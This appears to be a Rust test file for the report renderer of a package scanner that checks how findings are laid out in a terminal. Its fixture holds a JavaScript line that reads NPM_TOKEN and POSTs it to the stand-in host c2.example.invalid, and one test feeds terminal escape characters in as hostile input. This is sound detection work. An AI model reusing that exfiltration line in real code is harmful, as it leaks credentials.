//! The text of hand-made reports.

#![expect(clippy::needless_raw_string_hashes, reason = "expect-test writes them")]

use std::borrow::Cow;

use expect_test::{Expect, expect};

use super::*;
use crate::report::{
    Capability, CapabilityUse, Confidence, Effect, EffectKind, Evidence, Finding, Issue, IssueKind, Original, Position,
    Range, Reach, Report, SCHEMA_VERSION, Stats, Summary, Suppressed, Tool, Verdict,
};

const SOURCE: &str = "const os = require('os');\nconst token = process.env.NPM_TOKEN;\n\nfetch('https://c2.example.invalid', { method: 'POST', body: token });\n";

fn range(source: &str, piece: &str) -> Range {
    let start = source.find(piece).unwrap();
    let at = |offset: usize| {
        let line = source[..offset].matches('\n').count();
        let column = offset - source[..offset].rfind('\n').map_or(0, |newline| newline + 1);
        Position {
            line: u32::try_from(line).unwrap(),
            character: u32::try_from(column).unwrap(),
        }
    };
    let bytes = [start, start + piece.len()].map(|offset| u32::try_from(offset).unwrap());
    Range {
        start: at(start),
        end: at(start + piece.len()),
        bytes,
    }
}

fn step(file: &str, range: Range, note: &str) -> Evidence {
    Evidence {
        file: file.to_owned(),
        range,
        note: note.to_owned(),
        layer: None,
        original: None,
    }
}

fn finding() -> Finding {
    let sent = range(SOURCE, "fetch('https://c2.example.invalid'");
    Finding {
        rule: "data-exfiltration".to_owned(),
        severity: Severity::Critical,
        confidence: Confidence::High,
        file: "lib/index.js".to_owned(),
        range: sent,
        reach: Reach::Import,
        message: "an access token is sent to c2.example.invalid".to_owned(),
        help: "do not use this version; if it was ever installed, replace the token".to_owned(),
        evidence: vec![
            step(
                "lib/index.js",
                range(SOURCE, "process.env.NPM_TOKEN"),
                "the token is read",
            ),
            step("lib/index.js", sent, "and leaves the machine here"),
        ],
        suppressed: None,
        original: None,
    }
}

fn claim(file: &str, line: Option<u32>) -> Original {
    Original {
        file: file.to_owned(),
        line,
        character: line.map(|_| 4),
        name: None,
    }
}

#[test]
fn the_original_place_stands_beside_the_place() {
    let mut finding = finding();
    finding.evidence[0].original = Some(claim("src/read.ts", None));
    finding.evidence[1].original = Some(claim("src/send.ts", Some(11)));
    finding.evidence[1].file = "lib/other.js".to_owned();
    let text = package(&report(vec![finding]), &Sources::new(), &Look::default());
    assert!(text.contains(" (src/read.ts)\n"), "{text}");
    assert!(text.contains(" (src/send.ts:12:5)\n"), "{text}");
}

fn power(capability: Capability, reach: Reach) -> CapabilityUse {
    CapabilityUse {
        capability,
        api: "fetch".to_owned(),
        file: "lib/index.js".to_owned(),
        range: range(SOURCE, "fetch"),
        reach,
        hosts: vec!["c2.example.invalid".to_owned()],
        paths: Vec::new(),
        commands: Vec::new(),
        variables: Vec::new(),
        via: None,
        original: None,
    }
}

fn report(findings: Vec<Finding>) -> PackageReport {
    PackageReport {
        name: "colour-log".to_owned(),
        version: "1.4.2".to_owned(),
        path: "node_modules/colour-log".to_owned(),
        integrity: None,
        verdict: if findings.is_empty() {
            Verdict::Pass
        } else {
            Verdict::Block
        },
        effect: Effect {
            kind: EffectKind::Effects,
            reasons: Vec::new(),
        },
        capabilities: vec![
            power(Capability::Network, Reach::Import),
            power(Capability::Network, Reach::Unreached),
            power(Capability::FsRead, Reach::Call),
        ],
        findings,
        entry_points: Vec::new(),
        issues: Vec::new(),
        stats: Stats {
            files: 2,
            bytes: 1540,
            parsed: 1,
            skipped: 0,
            layers: 0,
        },
    }
}

fn shown(report: &PackageReport, look: &Look) -> String {
    let sources = Sources::from([("lib/index.js", Cow::Borrowed(SOURCE.as_bytes()))]);
    package(report, &sources, look)
}

fn check(text: &str, expected: &Expect) {
    expected.assert_eq(text);
}

#[test]
fn a_finding_shows_its_steps_in_the_source() {
    check(
        &shown(&report(vec![finding()]), &Look::default()),
        &expect![[r#"
        colour-log@1.4.2  block  node_modules/colour-log
          on import: network · when called: fs-read

        critical[data-exfiltration]: an access token is sent to c2.example.invalid
           ╭▸ lib/index.js:2:15
         2 │ const token = process.env.NPM_TOKEN;
           │               --------------------- 1. the token is read
           ┆
         4 │ fetch('https://c2.example.invalid', { method: 'POST', body: token });
           │ ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ 2. and leaves the machine here
           ├ runs when the package is imported, high confidence
           ╰ help: do not use this version; if it was ever installed, replace the token

    "#]],
    );
}

#[test]
fn a_narrow_terminal_wraps_words_and_cuts_lines() {
    let look = Look {
        width: 44,
        ..Look::default()
    };
    let text = shown(&report(vec![finding()]), &look);
    assert!(text.lines().all(|line| clean::width(line) <= 44), "{text}");
    check(
        &text,
        &expect![[r#"
        colour-log@1.4.2  block
          node_modules/colour-log
          on import: network · when called: fs-read

        critical[data-exfiltration]: an access token
        is sent to c2.example.invalid
           ╭▸ lib/index.js:2:15
         2 │ const token = process.env.NPM_TOKEN;
           │               ---------------------
           │   1. the token is read
           ├▸ lib/index.js:4:1
         4 │ fetch('https://c2.example.invalid', {…
           │ ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
           │   2. and leaves the machine here
           ├ runs when the package is imported, high
           │ confidence
           ╰ help: do not use this version; if it
                   was ever installed, replace the
                   token

    "#]],
    );
}

#[test]
fn without_its_source_a_finding_still_names_the_places() {
    let text = package(&report(vec![finding()]), &Sources::new(), &Look::default());
    check(
        &text,
        &expect![[r#"
        colour-log@1.4.2  block  node_modules/colour-log
          on import: network · when called: fs-read

        critical[data-exfiltration]: an access token is sent to c2.example.invalid
           ╭▸ lib/index.js:2:15
           │   1. the token is read
           ├▸ lib/index.js:4:1
           │   2. and leaves the machine here
           ├ runs when the package is imported, high confidence
           ╰ help: do not use this version; if it was ever installed, replace the token

    "#]],
    );
}

#[test]
fn a_suppressed_finding_is_one_line_and_its_reason() {
    let suppressed = Some(Suppressed {
        reason: "read by us on Monday".to_owned(),
        expires: None,
    });
    let text = shown(
        &report(vec![Finding {
            suppressed,
            ..finding()
        }]),
        &Look::default(),
    );
    check(
        &text,
        &expect![[r#"
        colour-log@1.4.2  block  node_modules/colour-log
          on import: network · when called: fs-read

        critical[data-exfiltration]: an access token is sent to c2.example.invalid
          suppressed: read by us on Monday

    "#]],
    );
}

#[test]
fn verbose_lists_each_use() {
    let look = Look {
        detail: Detail::Verbose,
        ..Look::default()
    };
    check(
        &shown(&report(Vec::new()), &look),
        &expect![[r#"
        colour-log@1.4.2  pass  node_modules/colour-log
          on import: network · when called: fs-read
            network  fetch lib/index.js:4:1 on import, hosts c2.example.invalid
            network  fetch lib/index.js:4:1 unreached, hosts c2.example.invalid
            fs-read  fetch lib/index.js:4:1 when called, hosts c2.example.invalid

    "#]],
    );
}

#[test]
fn the_same_over_and_over_is_counted() {
    let text = shown(&report(vec![finding(); 9]), &Look::default());
    assert_eq!(text.matches("critical[").count(), 4);
    assert!(
        text.ends_with("\n… and 5 more data-exfiltration; --verbose shows them\n\n"),
        "{text}"
    );
}

#[test]
fn colour_adds_nothing_but_styles() {
    let plain = shown(&report(vec![finding()]), &Look::default());
    let colored = shown(
        &report(vec![finding()]),
        &Look {
            color: true,
            ..Look::default()
        },
    );
    assert_ne!(plain, colored);
    assert_eq!(anstream::adapter::strip_str(&colored).to_string(), plain);
}

#[test]
fn nothing_from_a_package_reaches_the_terminal_as_it_is() {
    let hostile = "\u{1b}]0;x\u{7}\u{9b}2J\u{202e}\r\n\u{200b}";
    let mut finding = finding();
    finding.message.push_str(hostile);
    finding.help.push_str(hostile);
    finding.rule.push_str(hostile);
    finding.file = hostile.to_owned();
    finding.evidence[0].note.push_str(hostile);
    finding.evidence[1].file = format!("b{hostile}");
    finding.original = Some(claim(hostile, None));
    finding.evidence[1].original = Some(claim(hostile, Some(3)));
    let mut report = report(vec![
        Finding {
            suppressed: Some(Suppressed {
                reason: hostile.to_owned(),
                expires: None,
            }),
            ..finding.clone()
        },
        finding,
    ]);
    report.name = hostile.to_owned();
    report.version = hostile.to_owned();
    report.path = hostile.to_owned();
    report.capabilities[0].hosts = vec![hostile.to_owned()];
    report.capabilities[0].api = hostile.to_owned();
    report.capabilities[0].via = Some(hostile.to_owned());
    report.effect.kind = EffectKind::Unknown;
    let (kind, message) = (IssueKind::Unparsed, hostile.to_owned());
    report.issues.push(Issue {
        kind,
        file: hostile.to_owned(),
        message,
    });
    let source = format!("{hostile}{SOURCE}");
    let sources = Sources::from([(hostile, Cow::Borrowed(source.as_bytes()))]);
    for detail in [Detail::Usual, Detail::Verbose] {
        let look = Look {
            detail,
            ..Look::default()
        };
        let mut text = package(&report, &sources, &look);
        let mut plain = report.clone();
        plain.findings.clear();
        text.push_str(&overview(&whole(vec![plain, report.clone()]), &look));
        let bad = ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\r', '\u{200b}'];
        assert!(!text.contains(bad), "{text:?}");
        // A line break from a package cannot fake a line of the report.
        assert!(!text.lines().any(|line| line.starts_with("<U+200B>")), "{text}");
    }
}

fn whole(packages: Vec<PackageReport>) -> Report {
    let count = |verdict| {
        let having = packages.iter().filter(|package| package.verdict == verdict);
        u32::try_from(having.count()).unwrap()
    };
    let summary = Summary {
        packages: u32::try_from(packages.len()).unwrap(),
        block: count(Verdict::Block),
        review: count(Verdict::Review),
        pass: count(Verdict::Pass),
        files: packages.iter().map(|package| package.stats.files).sum(),
        bytes: packages.iter().map(|package| package.stats.bytes).sum(),
    };
    let tool = Tool {
        name: "importguard".to_owned(),
        version: "0.0.0".to_owned(),
    };
    Report {
        schema_version: SCHEMA_VERSION,
        tool,
        packages,
        summary,
    }
}

fn pure(name: &str) -> PackageReport {
    PackageReport {
        name: name.to_owned(),
        capabilities: Vec::new(),
        effect: Effect {
            kind: EffectKind::Pure,
            reasons: Vec::new(),
        },
        ..report(Vec::new())
    }
}

#[test]
fn few_packages_get_a_line_each() {
    let mut odd = report(Vec::new());
    odd.effect.kind = EffectKind::Unknown;
    let message = "does not parse; read by tokens".to_owned();
    odd.issues.push(Issue {
        kind: IssueKind::Unparsed,
        file: "lib/odd.js".to_owned(),
        message,
    });
    let packages = vec![report(vec![finding()]), odd, pure("left-pad")];
    check(
        &overview(&whole(packages), &Look::default()),
        &expect![[r#"
            without findings
              colour-log@1.4.2  on import: network · when called: fs-read · effect unknown
              left-pad@1.4.2    pure

            1 place not fully analysed
              colour-log@1.4.2 lib/odd.js: does not parse; read by tokens

            packages  3   1 block · 0 review · 2 pass
            findings  1   1 critical
            files     6   4.6 kB · 1 place not fully analysed
            block     colour-log@1.4.2

            what it means: importguard explain data-exfiltration
        "#]],
    );
}

#[test]
fn many_packages_are_counted_by_power() {
    let mut packages: Vec<_> = (0..30).map(|index| pure(&format!("pure-{index}"))).collect();
    packages.push(report(Vec::new()));
    for index in 0..14 {
        let (file, message) = (format!("f{index}.js"), "cannot read it: permission denied".to_owned());
        packages[0].issues.push(Issue {
            kind: IssueKind::Unreadable,
            file,
            message,
        });
    }
    check(
        &overview(
            &whole(packages),
            &Look {
                width: 80,
                ..Look::default()
            },
        ),
        &expect![[r#"
        31 packages without findings  (--verbose lists each)
          pure                30  pure-0, pure-1, pure-2, pure-3, pure-4, pure-5, …
          network              1  colour-log
          fs-read              1  colour-log

        14 places not fully analysed
          pure-0@1.4.2 f0.js: cannot read it: permission denied
          pure-0@1.4.2 f1.js: cannot read it: permission denied
          pure-0@1.4.2 f2.js: cannot read it: permission denied
          pure-0@1.4.2 f3.js: cannot read it: permission denied
          pure-0@1.4.2 f4.js: cannot read it: permission denied
          pure-0@1.4.2 f5.js: cannot read it: permission denied
          pure-0@1.4.2 f6.js: cannot read it: permission denied
          pure-0@1.4.2 f7.js: cannot read it: permission denied
          pure-0@1.4.2 f8.js: cannot read it: permission denied
          pure-0@1.4.2 f9.js: cannot read it: permission denied
          pure-0@1.4.2 f10.js: cannot read it: permission denied
          pure-0@1.4.2 f11.js: cannot read it: permission denied
          … and 2 more (2 unreadable); --verbose lists them

        packages  31   0 block · 0 review · 31 pass
        findings   0
        files     62   47.7 kB · 14 places not fully analysed
    "#]],
    );
}

#[test]
fn quiet_leaves_the_sums() {
    let look = Look {
        detail: Detail::Quiet,
        ..Look::default()
    };
    check(
        &overview(&whole(vec![pure("left-pad")]), &look),
        &expect![[r#"
        packages  1   0 block · 0 review · 1 pass
        findings  0
        files     2   1.5 kB
    "#]],
    );
}

#[test]
fn weak_findings_of_many_packages_are_a_line_each() {
    let look = Look {
        brief: true,
        ..Look::default()
    };
    let weak = Finding {
        severity: Severity::Low,
        ..finding()
    };
    let text = shown(&report(vec![finding(), weak.clone(), weak]), &look);
    assert_eq!(text.matches("╭▸").count(), 1, "{text}");
    let weak = "  low[data-exfiltration]: an access token is sent to c2.example.invalid";
    assert!(
        text.ends_with(&format!("\n\n{weak} (lib/index.js:4:1, and 1\n    more)\n\n")),
        "{text}"
    );
}
